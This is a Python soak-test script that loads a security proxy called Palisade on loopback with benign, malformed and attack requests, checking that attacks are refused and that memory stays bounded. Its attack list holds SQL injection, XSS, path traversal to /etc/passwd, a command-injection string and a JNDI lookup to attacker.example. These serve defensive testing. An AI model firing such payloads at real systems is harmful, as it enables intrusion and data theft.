#!/usr/bin/env python3
"""Bounded soak: many keep-alive clients on loopback send a mix of benign API requests,
attacks and malformed requests to a running Palisade for a fixed time, then the script
reports requests, statuses, errors and the proxy's memory (RSS) over time.

It fails (exit 1) on any 5xx, on any attack that is not refused, on any benign request that
is refused, on connection errors beyond the few a closing server causes, or when memory after
warm-up grows by more than --max-growth-mb.

    target/release/palisade run --listen 127.0.0.1:18400 --admin 127.0.0.1:18401 &
    benches/soak.py --target 127.0.0.1:18400 --pid $! --seconds 300 --concurrency 200

Loopback only; bounded in time; it never starts or stops processes itself.
"""
import argparse
import asyncio
import json
import random
import sys
import time


def rss_mb(pid):
    with open(f"/proc/{pid}/status") as f:
        for line in f:
            if line.startswith("VmRSS:"):
                return int(line.split()[1]) / 1024
    return 0.0


UA = "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0"


def req(method, target, headers=(), body=b""):
    lines = [f"{method} {target} HTTP/1.1", "Host: api.example.com", f"User-Agent: {UA}",
             "Accept: application/json"]
    lines += list(headers)
    if body or method in ("POST", "PUT", "PATCH"):
        lines.append(f"Content-Length: {len(body)}")
    return ("\r\n".join(lines) + "\r\n\r\n").encode() + body


def benign(rng):
    n = rng.randrange(6)
    if n == 0:
        return req("GET", f"/v1/items?page={rng.randrange(50)}&sort=name&q=blue+shoes")
    if n == 1:
        return req("GET", f"/v1/users/{rng.randrange(10**6)}/orders?status=open",
                   ["Cookie: session=abc123; theme=dark", "Accept-Language: en-US,en;q=0.9"])
    if n == 2:
        body = json.dumps({"name": "Jane O'Brien", "note": "Call me after 5pm, ok?",
                           "items": [{"sku": "A-1", "qty": 2}], "tags": ["gift", "red"]})
        return req("POST", "/v1/orders", ["Content-Type: application/json"], body.encode())
    if n == 3:
        body = b"email=jane%40example.com&comment=Great+product%21+Would+buy+again."
        return req("POST", "/v1/feedback", ["Content-Type: application/x-www-form-urlencoded"], body)
    if n == 4:
        return req("PUT", "/v1/profile", ["Content-Type: application/json",
                                          "Authorization: Bearer eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.c2ln"],
                   b'{"bio":"I like hiking, cheese and long walks by the river."}')
    return req("GET", "/v1/search?q=%22rock+and+roll%22&from=2024-01-01")


ATTACKS = [
    lambda: req("GET", "/v1/items?id=1%27%20OR%20%271%27%3D%271"),
    lambda: req("GET", "/v1/search?q=%3Cscript%3Ealert(document.cookie)%3C%2Fscript%3E"),
    lambda: req("GET", "/v1/files?name=..%2F..%2F..%2Fetc%2Fpasswd"),
    lambda: req("POST", "/v1/run", ["Content-Type: application/json"], b'{"cmd":"x; cat /etc/passwd"}'),
    lambda: req("GET", "/v1/items", ["X-Api-Version: ${jndi:ldap://attacker.example/a}"]),
    lambda: req("POST", "/v1/orders", ["Content-Type: application/json"],
                b'{"q":"<img src=x onerror=alert(1)>","q":"ok"}'),
    lambda: req("GET", "/v1/%2e%2e/%2e%2e/etc/passwd"),
]

MALFORMED = [
    # Each answered 4xx before inspection; the connection is then closed.
    b"POST /v1/orders HTTP/1.1\r\nHost: api.example.com\r\nContent-Length: 5, 5\r\n\r\nhello",
    b"GET /v1/a%zz HTTP/1.1\r\nHost: api.example.com\r\n\r\n",
    b"GET /v1/items HTTP/1.1\r\n\r\n",
]


async def read_response(reader):
    head = await reader.readuntil(b"\r\n\r\n")
    status = int(head[9:12])
    length = 0
    close = False
    for line in head.split(b"\r\n")[1:]:
        k, _, v = line.partition(b":")
        k = k.strip().lower()
        if k == b"content-length":
            length = int(v.strip())
        elif k == b"connection" and v.strip().lower() == b"close":
            close = True
    if length:
        await reader.readexactly(length)
    return status, close


async def client(host, port, deadline, stats, seed):
    rng = random.Random(seed)
    reader = writer = None
    while time.monotonic() < deadline:
        try:
            if writer is None:
                reader, writer = await asyncio.open_connection(host, port)
            roll = rng.random()
            if roll < 0.02:
                kind, data = "malformed", rng.choice(MALFORMED)
            elif roll < 0.12:
                kind, data = "attack", rng.choice(ATTACKS)()
            else:
                kind, data = "benign", benign(rng)
            writer.write(data)
            await writer.drain()
            status, close = await asyncio.wait_for(read_response(reader), timeout=30)
            stats["requests"] += 1
            stats[f"{kind}_{status}"] = stats.get(f"{kind}_{status}", 0) + 1
            if kind == "malformed" or close:
                writer.close()
                writer = None
        except (ConnectionError, asyncio.IncompleteReadError, asyncio.TimeoutError, OSError) as e:
            stats["conn_errors"] += 1
            stats.setdefault("error_kinds", {}).setdefault(type(e).__name__, 0)
            stats["error_kinds"][type(e).__name__] += 1
            if writer is not None:
                writer.close()
            writer = None
    if writer is not None:
        writer.close()


async def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("--target", default="127.0.0.1:18400")
    ap.add_argument("--pid", type=int, required=True)
    ap.add_argument("--seconds", type=float, default=120)
    ap.add_argument("--concurrency", type=int, default=100)
    ap.add_argument("--max-growth-mb", type=float, default=32)
    a = ap.parse_args()
    host, port = a.target.rsplit(":", 1)
    stats = {"requests": 0, "conn_errors": 0}
    start = time.monotonic()
    deadline = start + a.seconds
    tasks = [asyncio.create_task(client(host, int(port), deadline, stats, i))
             for i in range(a.concurrency)]
    samples = []
    while not all(t.done() for t in tasks):
        await asyncio.sleep(5)
        samples.append((round(time.monotonic() - start), round(rss_mb(a.pid), 1), stats["requests"]))
    await asyncio.gather(*tasks)
    elapsed = time.monotonic() - start
    warm = [s for s in samples if s[0] >= min(30, a.seconds / 4)]
    growth = (warm[-1][1] - warm[0][1]) if len(warm) >= 2 else 0.0
    problems = []
    for k, v in stats.items():
        if k in ("requests", "conn_errors", "error_kinds"):
            continue
        kind, status = k.rsplit("_", 1)
        status = int(status)
        if status >= 500:
            problems.append(f"{v} × {kind} answered {status}")
        elif kind == "attack" and status < 400:
            problems.append(f"{v} attacks passed ({status})")
        elif kind == "benign" and status >= 400:
            problems.append(f"{v} benign requests refused ({status})")
        elif kind == "malformed" and not 400 <= status < 500:
            problems.append(f"{v} malformed requests answered {status}")
    if stats["conn_errors"] > max(5, stats["requests"] // 10000):
        problems.append(f"{stats['conn_errors']} connection errors")
    if growth > a.max_growth_mb:
        problems.append(f"memory grew {growth:.1f} MB after warm-up")
    print(json.dumps({"seconds": round(elapsed), "concurrency": a.concurrency,
                      "requests": stats["requests"], "rps": round(stats["requests"] / elapsed),
                      "statuses": {k: v for k, v in sorted(stats.items()) if "_" in k and k != "conn_errors"
                                   and k != "error_kinds"},
                      "conn_errors": stats["conn_errors"], "error_kinds": stats.get("error_kinds", {}),
                      "rss_mb_first": samples[0][1] if samples else None,
                      "rss_mb_max": max(s[1] for s in samples) if samples else None,
                      "rss_mb_last": samples[-1][1] if samples else None,
                      "growth_after_warmup_mb": round(growth, 1),
                      "samples": samples}, indent=1))
    if problems:
        print("SOAK FAILED: " + "; ".join(problems), file=sys.stderr)
        sys.exit(1)
    print("soak ok", file=sys.stderr)


asyncio.run(main())
